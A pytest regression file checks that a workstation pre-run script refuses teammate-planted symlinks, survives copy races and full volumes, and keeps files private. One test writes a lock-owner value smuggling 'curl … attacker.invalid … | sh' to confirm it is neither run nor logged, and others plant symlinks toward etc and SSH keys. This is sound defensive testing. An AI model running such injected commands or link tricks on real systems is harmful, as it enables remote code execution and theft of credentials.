"""Regressions for the review's reproductions R1-R5 and R10 (REVIEW.md, appendix), run
through the rendered pre-run.sh in scratch trees: storage written by a teammate must
never make root act elsewhere, lose data, or copy forever.

Tests that mount a small tmpfs need root and run only inside the test's temporary dir.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterator

import pytest
from test_prerun import backups_of, fill_dir, link_entries_of, mode_of, small_workspace, source_as_caller
from ansible_collections.reforge.workstation.tests.unit.treedata import data_checksum as checksum
from ansible_collections.reforge.workstation.tests.unit.treedata import snapshot

if TYPE_CHECKING:
    from conftest import Workspace


@pytest.fixture
def tmpfs() -> Iterator[Any]:
    """Mount a small tmpfs on a scratch folder (root only); unmounted afterwards."""
    mounted: list[Path] = []

    def mount(folder: Path, size: str) -> None:
        if os.geteuid() != 0:
            pytest.skip("mounting a tmpfs needs root")
        folder.mkdir(parents=True, exist_ok=True)
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
                              capture_output=True, check=False)
        if done.returncode != 0:
            pytest.skip(f"mount is not permitted here: {done.stderr!r}")
        mounted.append(folder)

    yield mount
    for folder in reversed(mounted):
        subprocess.run(["umount", "-l", str(folder)], check=False)


def all_logs(ws: "Workspace") -> str:
    return "".join(p.read_text(errors="replace") for p in ws.state.glob("pre-run.log*") if p.is_file()
                   and not p.is_symlink())


# R1 -------------------------------------------------------------------------------------
def test_r1_a_storage_link_to_etc_is_refused_and_nothing_is_chmodded_through_it(workspace: "Workspace") -> None:
    ws = workspace
    etc = ws.root / "etc"
    etc.mkdir()
    (etc / "passwd").write_text("root:x:0:0::/root:/bin/bash\n")
    (etc / "passwd").chmod(0o644)
    etc.chmod(0o755)
    (ws.storage / ".ssh").symlink_to(etc)
    (ws.storage / ".git-credentials").symlink_to(etc / "passwd")
    ws.render(storage_links_default_entries=link_entries_of([".ssh"], [".git-credentials"], {".ssh": "0700", ".git-credentials": "0600"}))
    etc_before = snapshot(etc)
    outside_before = snapshot(ws.root, skip=("home", "storage", "notebooks", "caller"))

    result = source_as_caller(ws)

    assert mode_of(etc) == 0o755
    assert mode_of(etc / "passwd") == 0o644
    assert snapshot(etc) == etc_before, "a file was created, changed or chmodded under the link target"
    assert snapshot(ws.root, skip=("home", "storage", "notebooks", "caller")) == outside_before, "a file appeared outside"
    assert not (ws.home / ".ssh").exists() and not (ws.home / ".git-credentials").exists()
    log = ws.log.read_text()
    assert f"{ws.storage / '.ssh'} on the storage side is a symbolic link" in log
    assert "symbolic link" in result.stderr, "a refusal must reach stderr (the notebook's log) too"


# R2 -------------------------------------------------------------------------------------
def test_r2_lock_and_log_links_are_not_written_through(workspace: "Workspace") -> None:
    ws = workspace
    etc = ws.root / "etc"
    etc.mkdir()
    (etc / "bashrc").write_text("# root bashrc\n")
    ws.state.mkdir()
    (ws.state / "pre-run.lock").symlink_to(etc / "nologin")
    (ws.state / "pre-run.log").symlink_to(etc / "bashrc")
    small_workspace(ws)

    source_as_caller(ws)

    assert not (etc / "nologin").exists()
    assert (etc / "bashrc").read_text() == "# root bashrc\n"
    assert (ws.state / "pre-run.log").is_symlink() and (ws.state / "pre-run.lock").is_symlink()


def test_r2_a_foreign_lock_owner_is_respected_and_never_logged_verbatim(workspace: "Workspace") -> None:
    ws = workspace
    small_workspace(ws, prerun_lock_timeout=1)
    lock = ws.state / "pre-run.lock.d"
    lock.mkdir(parents=True)
    (lock / "owner").write_text("1 other-host; curl -s https://attacker.invalid/x | sh #\n")

    result = source_as_caller(ws, env={"REFORGE_PRERUN_NO_FLOCK": "1"})

    # A lock of another container is not "gone": its lease has not expired, so nothing moves.
    assert not (ws.home / ".ssh").exists()
    assert lock.is_dir()
    assert "attacker.invalid" not in all_logs(ws) + result.stderr
    assert "until its lease expires" in ws.log.read_text()


# R3 -------------------------------------------------------------------------------------
def test_r3_a_backup_link_does_not_send_the_key_away(workspace: "Workspace") -> None:
    ws = workspace
    public = ws.notebooks / "public"
    public.mkdir()
    (ws.home / ".ssh").mkdir()
    (ws.home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (ws.storage / ".ssh").mkdir()
    (ws.storage / ".ssh" / "id_ed25519").write_text("other key\n")
    ws.state.mkdir()
    (ws.state / "backup").symlink_to(public)
    small_workspace(ws)

    source_as_caller(ws)

    assert list(public.iterdir()) == []
    assert mode_of(public) == 0o755
    # The colliding key could not be backed up, so it stayed where it was.
    assert (ws.home / ".ssh" / "id_ed25519").read_text() == "PRIVATE KEY\n"
    assert (ws.storage / ".ssh" / "id_ed25519").read_text() == "other key\n"
    assert "symbolic link" in ws.log.read_text()


# R4 -------------------------------------------------------------------------------------
def test_r4_a_file_written_by_a_teammate_during_the_copy_survives(workspace: "Workspace", tmpfs: Any) -> None:
    ws = workspace
    tmpfs(ws.home, "200m")  # home on another file system: the move is a copy
    history = ws.home / ".bash_history"
    with history.open("wb") as handle:
        for _ in range(96):
            handle.write(b"h" * (1024 * 1024))
    ws.render(storage_links_default_entries=link_entries_of([], [".bash_history"]), prerun_notebooks_git=False)
    partial = ws.storage / ".bash_history.reforge-partial"
    target = ws.storage / ".bash_history"
    wrote = threading.Event()

    def teammate() -> None:
        deadline = time.monotonic() + 30
        while not partial.exists() and time.monotonic() < deadline:
            time.sleep(0.001)
        if partial.exists():
            with target.open("x") as handle:  # a teammate creating the file (O_EXCL)
                handle.write("TEAMMATE'S HISTORY\n")
            wrote.set()

    writer = threading.Thread(target=teammate)
    writer.start()
    source_as_caller(ws)
    writer.join()

    assert wrote.is_set(), "the copy finished before the teammate could write; the race was not exercised"
    assert target.read_text() == "TEAMMATE'S HISTORY\n"
    kept = backups_of(ws, history)
    assert len(kept) == 1 and kept[0].stat().st_size == 96 * 1024 * 1024
    assert not partial.exists()
    assert "appeared while" in ws.log.read_text()


# R5 -------------------------------------------------------------------------------------
def test_r5_a_full_volume_leaves_no_partial_copy_logs_once_and_does_not_copy_again(
    workspace: "Workspace", tmpfs: Any
) -> None:
    ws = workspace
    tmpfs(ws.storage, "8m")
    lib = ws.home / ".local" / "lib"
    lib.mkdir(parents=True)
    for index in range(6):
        (lib / f"p{index}.so").write_bytes(os.urandom(1500 * 1024))
    ws.render(storage_links_default_entries=link_entries_of([".local"], []), prerun_notebooks_git=False)
    before, _ = checksum([ws.home / ".local"])

    first = source_as_caller(ws)
    second = source_as_caller(ws)
    third = source_as_caller(ws)

    partials = [p for p in ws.root.rglob("*") if "reforge-partial" in p.name]
    assert partials == []
    assert not (ws.state / "backup").exists() or not any((ws.state / "backup").rglob("*.so"))
    assert checksum([ws.home / ".local"])[0] == before and not (ws.home / ".local").is_symlink()
    log = ws.log.read_text()
    assert log.count("KiB free; left it in place") == 1, log
    assert "KiB free" in first.stderr
    assert "has not grown since" in second.stderr + third.stderr
    used = sum(p.stat().st_size for p in ws.storage.rglob("*") if p.is_file() and not p.is_symlink())
    assert used < 256 * 1024, "the later starts copied again"


def test_r5_the_timeout_removes_the_partial_copy_and_says_so(workspace: "Workspace", tmpfs: Any) -> None:
    ws = workspace
    # Storage on another file system, so the move is a copy: one too long for the 1 s
    # timeout on any machine (12 GiB, written at a few GiB/s at best). The source is
    # sparse, so it costs no disk; the tmpfs bounds what the copy can take from memory.
    tmpfs(ws.storage, "13g")
    lib = ws.home / ".local" / "lib"
    lib.mkdir(parents=True)
    (lib / "small.so").write_bytes(os.urandom(1024 * 1024))
    with (lib / "torch_cuda.so").open("wb") as handle:
        handle.truncate(12 * 1024**3)
    before, _ = checksum([lib / "small.so"])
    ws.render(storage_links_default_entries=link_entries_of([".local"], []), prerun_notebooks_git=False, prerun_timeout=1)

    results = [source_as_caller(ws) for _ in range(2)]

    assert not list(ws.storage.rglob("*reforge-partial*"))
    backup = ws.state / "backup"
    assert not backup.exists() or not any(p.is_file() for p in backup.rglob("*"))
    assert checksum([lib / "small.so"])[0] == before
    assert (lib / "torch_cuda.so").stat().st_size == 12 * 1024**3
    assert not (ws.home / ".local").is_symlink()
    assert all("stopped by the start's timeout" in r.stderr for r in results), [r.stderr[-500:] for r in results]
    used = sum(p.stat().st_blocks for p in ws.storage.rglob("*") if p.is_file() and not p.is_symlink())
    assert used * 512 < 1024 * 1024, "a partial copy was left in storage"


# R10 ------------------------------------------------------------------------------------
def test_r10_a_reversed_link_in_storage_is_refused_and_home_keeps_its_key(workspace: "Workspace") -> None:
    ws = workspace
    (ws.home / ".ssh").mkdir()
    (ws.home / ".ssh" / "id_ed25519").write_text("key\n")
    (ws.storage / ".ssh").symlink_to(ws.home / ".ssh")
    small_workspace(ws)

    source_as_caller(ws)
    source_as_caller(ws)

    assert (ws.home / ".ssh").is_dir() and not (ws.home / ".ssh").is_symlink()
    assert (ws.home / ".ssh" / "id_ed25519").read_text() == "key\n"
    assert "broken link" not in ws.log.read_text()
    assert not (ws.state / "backup").exists()


# umask --------------------------------------------------------------------------------------
def test_what_the_start_creates_is_private_even_under_umask_0(workspace: "Workspace") -> None:
    ws = workspace
    small_workspace(ws)

    source_as_caller(ws, env={"CALLER_PRELUDE": "umask 0"})

    assert stat.S_IMODE(ws.state.stat().st_mode) == 0o700
    assert mode_of(ws.log) == 0o600
    assert mode_of(ws.storage / ".local") == 0o700
    assert mode_of(ws.storage / ".gitconfig") == 0o600


# The fast path (issue 9, item 1; issue 10 builds on it) ---------------------------------------
def test_a_steady_start_returns_without_starting_any_process(workspace: "Workspace", tmp_path: Path) -> None:
    ws = workspace
    small_workspace(ws)
    source_as_caller(ws)  # the first start links everything
    log_before = ws.log.read_text()
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(ws.home)}
    caller = ["bash", "--norc", "--noprofile", "-c", f"set -eu; . '{ws.script}'; echo went on"]
    trace = tmp_path / "trace"
    # scripts/test installs strace: counting the processes is the point of this test.
    assert shutil.which("strace"), "strace is needed (scripts/test installs it from Debian's packages)"
    strace = subprocess.run(["strace", "-f", "-qq", "-o", str(trace), "-e", "trace=execve,fork,vfork,clone,clone3",
                             *caller], capture_output=True, text=True, env=env, check=False)

    started = subprocess.run(caller, capture_output=True, text=True, env=env, check=False)

    assert started.stdout.strip() == "went on"
    assert ws.log.read_text() == log_before, "the engine ran although every entry was the right link"
    assert strace.stdout.strip() == "went on", strace.stderr
    calls = [line for line in trace.read_text().splitlines() if "execve(" in line or "clone" in line
             or "fork(" in line]
    assert len(calls) == 1 and "execve(" in calls[0], calls  # bash itself, nothing else


def test_the_engine_source_is_safe_to_embed_through_a_template() -> None:
    source = (Path(__file__).resolve().parents[2] / "plugins" / "module_utils" / "storage_engine.py").read_text()
    assert not any(marker in source for marker in ("{{", "{%", "{#")), "Jinja would template the engine"
